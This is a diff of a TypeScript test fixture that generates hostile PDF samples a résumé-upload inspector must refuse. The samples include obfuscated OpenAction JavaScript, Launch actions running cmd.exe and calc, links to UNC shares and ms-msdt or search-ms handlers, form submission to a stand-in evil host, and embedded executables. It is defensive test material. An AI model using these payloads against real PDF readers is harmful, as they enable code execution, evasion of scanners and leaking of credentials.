@@ -1,21 +1,18 @@
-/** PDFs that must be refused: one for each rule of the inspection. */
+/** PDFs that must be refused: a plain one for each rule of the inspection. */
 import { Buffer } from 'node:buffer'
-import { deflateSync } from 'node:zlib'
 import type { ResumeFinding } from '@lanternfield/contract/answer-words.ts'
-import { docx } from './docx.ts'
-import { ENCRYPTIONS, encryptedPdf } from './encrypted-pdfs.ts'
+import { docx, zip } from './docx.ts'
+import { encryptedPdf } from './encrypted-pdfs.ts'
 import {
-  type PackedList,
   type PdfExtras,
-  packedPdfObjects,
   packedPdfStream,
   pdf,
   pdfOfPackedObjects,
+  pdfOfSize,
   pdfStream,
   pdfWithUpdate,
 } from './pdf.ts'
 import { aPdf, type Content, type HostileResume, refused } from './resume-example.ts'
-import { zip } from './zip.ts'
 
 const refusedAs = (finding: ResumeFinding) => (name: string, content: Content<PdfExtras>) =>
   refused(aPdf)(finding, name, content)
@@ -25,27 +22,26 @@ const locked = refusedAs('protected')
 const active = refusedAs('active')
 const embedded = refusedAs('embedded')
 const remote = refusedAs('remote')
-const oversized = refusedAs('oversized')
 
 const HTML = '<html><body><script>alert(1)</script></body></html>'
 const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
-const OPENS_WITH_SCRIPT = { catalog: `/OpenAction ${SCRIPT}` }
 const OPENS_WITH_6 = '/OpenAction 6 0 R'
 const LINK = '/Type /Annot /Subtype /Link /Rect [0 0 9 9]'
 
 /** A PDF that runs a script when it opens, with a change to its bytes. */
 const changed = (change: (file: string) => string) => () =>
-  Buffer.from(change(pdf('Mira', OPENS_WITH_SCRIPT).toString('latin1')), 'latin1')
+  Buffer.from(
+    change(pdf('Mira', { catalog: `/OpenAction ${SCRIPT}` }).toString('latin1')),
+    'latin1',
+  )
 
 const shells = [
   format('nothing but a letter', () => Buffer.from('x')),
   format('HTML before it', () => Buffer.concat([Buffer.from(HTML), pdf()])),
   format('nothing but a DOCX', () => docx()),
-  format('an archive behind it', () =>
-    Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }], '\n%%EOF\n')]),
-  ),
+  format('an archive behind it', () => Buffer.concat([pdf(), zip({ a: 'b' })])),
   broken('HTML behind it', () => Buffer.concat([pdf(), Buffer.from(HTML)])),
-  broken('only its first half', () => pdf().subarray(0, 500)),
+  broken('only its first half', () => pdfOfSize(100_000).subarray(0, 50_000)),
   broken('no pages', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /A 1 >>\nendobj\n%%EOF\n')),
   active(
     'a script and no header',
@@ -58,114 +54,17 @@ const shells = [
   active('a script that an update adds', () =>
     pdfWithUpdate({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>` }),
   ),
-  active('a script that an update removes', () =>
-    pdfWithUpdate({ 1: '<< /Type /Catalog /Pages 2 0 R >>' }, OPENS_WITH_SCRIPT),
-  ),
-  active('a script behind its end', () =>
-    Buffer.concat([
-      pdf('Mira', { catalog: OPENS_WITH_6 }),
-      Buffer.from(`6 0 obj ${SCRIPT} endobj\n`),
-    ]),
-  ),
 ]
 
-/** The same script, its names and numbers written in ways that readers understand. */
+/** The same script, its names and texts written in ways that readers understand. */
 const spellings = [
-  ...[
-    ['under escaped names', '/Open#41ction << /S /J#61v#61Script /#4a#53 (app.alert\\(1\\)) >>'],
-    [
-      'between comments and blanks of every sort',
-      '/OpenAction\0%\n<<\f/S% x\n/JavaScript%\r/JS\t(app.alert\\(1\\))>>',
-    ],
-    ['in hexadecimal', '/OpenAction << /S /JavaScript /JS <6170702E616C657274283129> >>'],
-    ['as the first of two values', `/OpenAction ${SCRIPT} /OpenAction [3 0 R /Fit]`],
-    ['as the last of two values', `/OpenAction [3 0 R /Fit] /OpenAction ${SCRIPT}`],
-    ['behind a value too many', `/OpenAction 5 ${SCRIPT}`],
-  ].map(([way, catalog = '']) => active(`a script ${way}`, { catalog })),
-  ...[
-    ['with comments', '/OpenAction 6%1 0 R\n0 R'],
-    ['with a sign', '/OpenAction +6 0 R'],
-  ].map(([way, catalog = '']) =>
-    active(`a script under a reference ${way}`, { catalog, objects: [SCRIPT] }),
-  ),
-  active('a script in the data of a picture', {
-    catalog: '/OpenAction 9 0 R',
-    objects: [pdfStream('', `9 0 obj ${SCRIPT} endobj`)],
-  }),
-  active('an address in an object whose number is in a comment', {
-    catalog: '/OpenAction 20 0 R',
-    objects: ['null endobj 20 % 9\n0 obj << /S /URI /URI (https://evil.example/x) >>'],
-  }),
-]
-
-const packed = (name: string, list: PackedList, refusal = active) =>
-  refusal(`a script in packed objects ${name}`, () =>
-    pdfOfPackedObjects('/OpenAction 8 0 R', ['[0 0 612 792]', 'null', SCRIPT], list),
-  )
-const flat = (pairs: readonly (readonly [number, number])[]) => pairs.flat().join(' ')
-const packedIn = (text: string) => deflateSync(Buffer.from(text, 'latin1'))
-/** Each row of ten bytes is predicted in the way that its first byte says. */
-const predicted = (text: string) =>
-  packedIn(text.replace(/.{1,10}/gs, (row) => `\0${row.padEnd(10)}`))
-const stream = (
-  name: string,
-  keys: string,
-  data: (text: string) => string | Uint8Array,
-  refusal = active,
-) =>
-  refusal(`a script in a stream ${name}`, {
-    catalog: '/OpenAction 50 0 R',
-    objects: [pdfStream(`${keys} /N 1 /First 5`, data(`50 0 ${SCRIPT}`))],
-  })
-
-const packings = [
-  packed('', {}),
-  packed('whose list has comments', {
-    write: ([[number, offset] = [0, 0], ...pairs]) =>
-      `% 1\n${number} % 1\r${offset} ${flat(pairs)}`,
-  }),
-  packed('whose list ends early', { first: 3 }, broken),
-  packed('whose list has a sign', { write: (pairs) => `+${flat(pairs)}` }, broken),
-  packed('of which fewer are announced', { count: 1 }, broken),
-  broken('packed objects that begin in two places', {
-    objects: [packedPdfStream('/N 1 /First 5 /First 500', '1 0  null')],
-  }),
-  broken('packed objects that begin behind their stream', {
-    objects: [packedPdfStream('/N 1 /First 500', '1 0  null')],
-  }),
-  stream('without a filter', '/Type /ObjStm', (text) => text),
-  stream('without a type', '/Filter [/Fl]', packedIn),
-  stream(
-    'with a predictor',
-    '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>',
-    predicted,
-  ),
-  stream(
-    'with a predictor of pictures',
-    '/Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 10 >>',
-    packedIn,
-    broken,
-  ),
-  stream(
-    'with two filters',
-    '/Filter [/ASCIIHexDecode /FlateDecode]',
-    (text) => `${packedIn(text).toString('hex')}>`,
-    broken,
-  ),
-  stream('that is not packed as it says', '/Filter /FlateDecode', (text) => text, broken),
-  oversized('packed objects that inflate without end', () =>
-    pdf('Mira', { objects: [packedPdfStream('/N 1 /First 5', ' '.repeat(30_000_000))] }),
-  ),
-  broken('brackets without end', () =>
-    Buffer.from(`%PDF-1.4\n1 0 obj\n${'['.repeat(1_000_000)}\n%%EOF`),
-  ),
-  broken('objects within objects without end', () =>
-    Buffer.from(`%PDF-1.4\n${'1 0 obj('.repeat(200_000)}\n%%EOF`),
-  ),
-  broken('a list of a million values', () =>
-    pdf('Mira', { objects: [packedPdfObjects([`[${'/A'.repeat(1_000_000)}]`])] }),
-  ),
-]
+  ['under escaped names', '/Open#41ction << /S /J#61v#61Script /#4a#53 (app.alert\\(1\\)) >>'],
+  [
+    'between comments and blanks of every sort',
+    '/OpenAction\0%\n<<\f/S% x\n/JavaScript%\r/JS\t(app.alert\\(1\\))>>',
+  ],
+  ['in hexadecimal', '/OpenAction << /S /JavaScript /JS <6170702E616C657274283129> >>'],
+].map(([way, catalog = '']) => active(`a script ${way}`, { catalog }))
 
 /** The places from which a reader starts an action by itself. */
 const places = [
@@ -183,16 +82,19 @@ const places = [
     catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
     objects: [pdfStream('', 'app.alert(1)')],
   }),
+  active('a script in packed objects', () =>
+    pdfOfPackedObjects('/OpenAction 8 0 R', ['[0 0 612 792]', 'null', SCRIPT]),
+  ),
   active('a script of a form in XML', {
-    catalog: '/AcroForm << /XFA 7 0 R >>',
-    objects: [
-      'null',
-      '[(template) 8 0 R]',
-      packedPdfStream('', '<t:template><t:script>app.alert(1)</t:script></t:template>'),
-    ],
+    catalog: '/AcroForm << /XFA 6 0 R >>',
+    objects: [packedPdfStream('', '<t:template><t:script>app.alert(1)</t:script></t:template>')],
+  }),
+  active('a script in two parts of a form in XML', {
+    catalog: '/AcroForm << /XFA [(a) 6 0 R (b) 7 0 R] >>',
+    objects: [pdfStream('', '<template><scr'), pdfStream('', 'ipt>app.alert(1)</script>')],
   }),
   active('a script of a scene', {
-    objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x')],
+    objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x'), pdfStream('', 'x')],
   }),
   active('a film', { page: '/Annots [<< /Subtype /RichMedia >>]' }),
   active('an action whose name is elsewhere', {
@@ -203,10 +105,6 @@ const places = [
     catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>',
     objects: ['null', '<< /S /GoTo /Next 8 0 R >>', '<< /S /URI /URI (https://evil.example) >>'],
   }),
-  broken('actions after one another without end', {
-    catalog: OPENS_WITH_6,
-    objects: Array.from({ length: 100 }, (_, index) => `<< /S /GoTo /Next ${index + 7} 0 R >>`),
-  }),
 ]
 
 /** What an action must not do when the file opens. */
@@ -216,6 +114,7 @@ const actions = [
   ['a file within the file', '/S /GoToE /T << /R /C /N (a) >>'],
   ['a program', '/S /Launch /F (cmd.exe)'],
   ['a program of Windows', '/S /Launch /Win << /F (cmd) /P (/c calc) >>'],
+  ['a document on a share', '/S /Launch /F (\\\\\\\\evil\\\\a.pdf)'],
   ['a form to be sent', '/S /SubmitForm /F << /FS /URL /F (https://evil.example) >>'],
   ['a film of an address', '/S /Rendition /OP 0'],
   ['a command of the menu', '/S /Named /N /SaveAs'],
@@ -224,18 +123,16 @@ const actions = [
 )
 
 const linkTo = (file: string) => `/Annots [<< ${LINK} /A << /S /GoToR /F ${file} /D [0 /Fit] >> >>]`
-const linkToAddress = (address: string) =>
-  `/Annots [<< ${LINK} /A << /S /URI /URI (${address}) >> >>]`
+const linkToAddress = (address: string) => ({
+  page: `/Annots [<< ${LINK} /A << /S /URI /URI (${address}) >> >>]`,
+})
 const links = [
-  active('a link to a script', { page: linkToAddress(' JavaScript:app.alert\\(1\\)') }),
-  remote('a link to an address on a share', { page: linkToAddress('\\\\\\\\evil\\\\x') }),
+  active('a link to a script', linkToAddress(' JavaScript:app.alert\\(1\\)')),
+  active('a link to a tool of Windows', linkToAddress('ms-msdt:/id PCWDiagnostic')),
+  active('a link to a search on a share', linkToAddress('search-ms:query=a&crumb=location:evil')),
+  remote('a link to an address on a share', linkToAddress('\\\\\\\\evil\\\\x')),
+  remote('links that are relative to a share', { catalog: '/URI << /Base (\\\\\\\\evil\\\\x) >>' }),
   remote('a link to a share', { page: linkTo('(\\\\\\\\evil.example\\\\x)') }),
-  active('a document on a share when it opens', {
-    catalog: '/OpenAction << /S /Launch /F (\\\\\\\\evil\\\\a.pdf) >>',
-  }),
-  remote('a link to a share in packed objects', () =>
-    pdfOfPackedObjects(linkTo('6 0 R'), ['(//evil.example/x)']),
-  ),
   remote('a link to a share as an address', { page: linkTo('<< /UF (file://evil.example/x) >>') }),
   remote('a link to a share in UTF-16', {
     page: linkTo('<< /UF <FEFF005C005C006500760069006C> >>'),
@@ -245,6 +142,9 @@ const links = [
   }),
   remote('a stream with a filter for data from elsewhere', {
     objects: [pdfStream('/FFilter /FlateDecode', '')],
+  }),
+  remote('a picture that is a page of another file', {
+    objects: [pdfStream('/Subtype /Form /Ref << /F (a.pdf) /Page 0 >>', '')],
   }),
 ]
 
@@ -257,40 +157,36 @@ const attached = (name: string, fileName: string, data: string) =>
     ],
   })
 const attachments = [
+  attached('a program', 'a.exe', 'MZ\0\0'),
   attached('a program called XML', 'a.xml', 'MZ\0\0'),
   attached('XML called a program', 'a.hta', '<a/>'),
   attached('a page with an event', 'a.html', '<style onload=alert(1)></style>'),
   attached('XML that is shown as a page', 'a.xml', '<a xmlns:h="http://www.w3.org/1999/xhtml"/>'),
+  attached('a document of Word 2003', 'a.xml', '<?mso-application progid="Word.Document"?><w/>'),
   attached('XML in an encoding that hides it', 'a.xml', '<?xml version="1.0" encoding="UTF-7"?>'),
   attached('more than is looked at', 'a.xml', ' '.repeat(5_000_000)),
-  embedded('an attachment that is not there', { objects: ['<< /F (a.xml) /EF << /F 9 0 R >> >>'] }),
-  embedded('an attachment without a name', { objects: [pdfStream('/Type /EmbeddedFile', '<a/>')] }),
   embedded('an attachment at a place of the page', {
     page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.xml) >> >>]',
   }),
 ]
 
-const encrypted = ENCRYPTIONS.flatMap((encryption) => [
-  active(`a script in ${encryption}`, () => encryptedPdf(encryption, 'script')),
-  remote(`a link to a share in ${encryption}`, () => encryptedPdf(encryption, 'link')),
-  locked(`a password in ${encryption}`, () => encryptedPdf(encryption, 'locked')),
-])
+const encrypted = [
+  active('a script in AES-256', () => encryptedPdf('aes-256-script')),
+  remote('a link to a share in AES-256', () => encryptedPdf('aes-256-link')),
+  active('a script in RC4', () => encryptedPdf('rc4-128-script')),
+  locked('a password', () => encryptedPdf('aes-256-locked')),
+  locked('an encryption that is unknown', {
+    objects: ['<< /Filter /Certificate /V 2 /R 3 /O (x) /U (y) /P -4 >>'],
+    trailer: '/Encrypt 6 0 R',
+  }),
+]
 
 export const hostilePdfs: readonly HostileResume[] = [
   ...shells,
   ...spellings,
-  ...packings,
   ...places,
   ...actions,
   ...links,
   ...attachments,
   ...encrypted,
-  locked('an encryption that is unknown', {
-    objects: ['<< /Filter /Certificate /V 2 /R 3 /O (x) /U (y) /P -4 >>'],
-    trailer: '/Encrypt 6 0 R',
-  }),
-  broken('two encryptions', {
-    objects: ['<< /Filter /Standard /V 1 >>'],
-    trailer: '/Encrypt 6 0 R /Encrypt << /Filter /Standard /V 2 >>',
-  }),
 ]
